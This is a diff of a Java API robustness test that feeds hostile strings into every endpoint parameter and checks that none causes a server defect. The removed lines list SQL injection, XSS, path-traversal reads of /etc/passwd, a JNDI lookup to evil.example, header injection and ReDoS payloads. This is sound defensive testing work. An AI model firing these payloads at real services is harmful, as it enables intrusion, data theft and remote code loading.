@@ -12,6 +12,7 @@ import java.net.http.HttpResponse;
 import java.nio.file.Path;
 import java.util.Base64;
 import java.util.List;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
@@ -20,27 +21,17 @@ import org.rapporteur.service.ExampleRecord;
 import org.rapporteur.service.HowToRead;
 import org.rapporteur.service.Serving;
 import org.rapporteur.web.Desk;
+import org.rapporteur.web.HostileStrings;
 
 class HostileApiTest {
 
-    private static final List<String> INJECTIONS = List.of(
-            "' OR 1=1 --",
-            "\"; DROP TABLE article; --",
-            "<script>alert(1)</script>",
-            "../../../../etc/passwd",
-            "/etc/passwd",
-            "${jndi:ldap://evil.example/x}",
-            "{{7*7}}",
-            "a\r\nSet-Cookie: x=y",
-            "\u0000",
-            "%",
-            "_",
-            "*:* OR [\"",
-            "((((((((((",
-            "\uD83D\uDE00\u202E",
-            "(a+)+$",
-            "x".repeat(1999),
-            "x".repeat(3000));
+    /** What is hostile by its length alone, and what strangers write. */
+    private static final List<String> INJECTIONS = Stream.concat(
+                    HostileStrings.all().stream(), Stream.of("/etc/passwd", "x".repeat(1999), "x".repeat(3000)))
+            .toList();
+
+    /** Of so many strings a parameter is given one, the next parameter the next, so that all questions together take no minutes. */
+    private static final int TURNS = 3;
 
     @TempDir
     private static Path folder;
@@ -63,10 +54,13 @@ class HostileApiTest {
     @Test
     void anythingInAnyParameterIsAnsweredOrRefusedButNeverADefect() throws Exception {
         JsonNode description = api.json("/openapi.json");
+        int asked = 0;
         for (var path : description.path("paths").properties()) {
             JsonNode operation = path.getValue().path("get");
             for (JsonNode parameter : operation.path("parameters")) {
-                for (String injection : INJECTIONS) {
+                asked++;
+                for (int i = asked % TURNS; i < INJECTIONS.size(); i += TURNS) {
+                    String injection = INJECTIONS.get(i);
                     HttpResponse<String> answer = api.get(question(path.getKey(), parameter, injection));
                     String what = path.getKey() + " " + parameter.path("name").asText() + " " + injection;
                     assertThat(answer.statusCode()).as(what).isIn(200, 400, 404);
